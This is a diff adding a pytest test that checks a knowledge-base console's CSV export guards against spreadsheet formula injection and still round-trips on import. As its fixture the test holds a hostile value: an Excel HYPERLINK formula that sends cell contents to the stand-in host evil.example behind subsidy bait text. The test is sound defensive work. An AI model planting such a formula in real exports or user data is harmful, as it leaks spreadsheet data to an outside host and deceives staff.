@@ -189,3 +189,32 @@ def test_a_csv_with_semicolons_or_tabs_still_loads(tmp_path, delimiter):
     out.write_text(delimiter.join(["编号", "问题", "答案"]) + "\n"
                    + delimiter.join(["d1", "问题一", '"答案, 含 ; 和 \t 分隔符"']) + "\n", encoding="utf-8")
     assert load_file(out, strict=True) == [Entry(id="d1", question="问题一", answer="答案, 含 ; 和 \t 分隔符")]
+
+
+def test_a_csv_export_does_not_hand_excel_a_users_formula_and_still_round_trips(app, client, kb, make_staff,
+                                                                                 console_login, db, tmp_path):
+    """A question typed in the chat reaches an entry's phrasings in one click from the unanswered queue; exported
+    to .csv, a cell starting with = + - @ is run by Excel or WPS as a formula on the staff PC (CSV injection), as
+    the appeal and enterprise exports already guard against. Such cells now start with ', which the import removes,
+    so the file still comes back unchanged."""
+    token = console_login(make_staff(role="staff"))
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")'
+    client.post("/api/v1/chat", json={"text": hostile})
+    from wxapp_backend.knowledge_store.models import UnansweredQuestion
+
+    qid = db.query(UnansweredQuestion).filter_by(text=hostile).one().id
+    assert client.post("/console/kb/new", data={
+        "csrf_token": token, "id": "formula-target", "question": "-5% 的贷款贴息怎么申请", "answer": "@SUM(1,2) 见链接",
+        "issuer": "+区金融办", "window": "'=每年 3 月"}).status_code == 302
+    assert client.post(f"/console/kb/unanswered/{qid}/phrasing",
+                       data={"csrf_token": token, "entry_id": "formula-target"}).status_code == 302
+    out = tmp_path / "kb.csv"
+    assert app.test_cli_runner().invoke(args=["kb", "export", str(out)]).exit_code == 0
+    with out.open(encoding="utf-8-sig", newline="") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells
+    result = app.test_cli_runner().invoke(args=["kb", "import", str(out)])
+    assert "新增 0 条，更新 0 条" in result.output, result.output
+    row = db.get(KBEntry, "formula-target")
+    assert (row.question, row.answer, row.similar, row.issuer, row.window) == (
+        "-5% 的贷款贴息怎么申请", "@SUM(1,2) 见链接", [hostile], "+区金融办", "'=每年 3 月")
